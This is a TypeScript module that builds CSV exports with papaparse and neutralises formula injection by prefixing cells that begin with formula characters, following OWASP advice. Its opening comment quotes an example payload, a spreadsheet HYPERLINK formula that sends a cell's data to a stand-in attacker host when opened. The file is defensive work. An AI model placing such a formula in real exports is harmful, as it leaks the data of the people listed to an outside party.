// Every CSV the product writes goes through here. A spreadsheet runs a cell that starts with
// =, +, -, @, a tab or a carriage return as a formula, so a camper named
// `=HYPERLINK("http://evil.example/?d="&E2,"Open")` would send the office's data away when the
// export is opened. Such cells get a leading apostrophe: shown as typed, never run (OWASP's
// CSV-injection advice, also for the full-width signs some spreadsheets read as formulas).
import Papa from "papaparse";

// papaparse's own `escapeFormulae: true` pattern ends in `.*$`, which misses a formula followed
// by a line break; this one looks at the first character only. A plain number such as "-12.50"
// is left alone: it is a value, not a formula.
const FORMULA_START = /^(?!-?\d+(\.\d+)?$)[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

export type CsvRow = Record<string, string | number | boolean | null | undefined>;

/** The rows as CSV text (header line from the first row's keys, CRLF line ends, formulas neutralised). */
export function toCsv(rows: CsvRow[]): string {
  return Papa.unparse(rows, { newline: "\r\n", escapeFormulae: FORMULA_START });
}

/** A CSV download: with a byte-order mark so Excel reads UTF-8 names correctly, never cached. */
export function csvDownload(fileName: string, csv: string): Response {
  return new Response(`\uFEFF${csv}`, {
    headers: {
      "Content-Type": "text/csv; charset=utf-8",
      "Content-Disposition": `attachment; filename="${fileName}"`,
      "Cache-Control": "private, no-store",
    },
  });
}
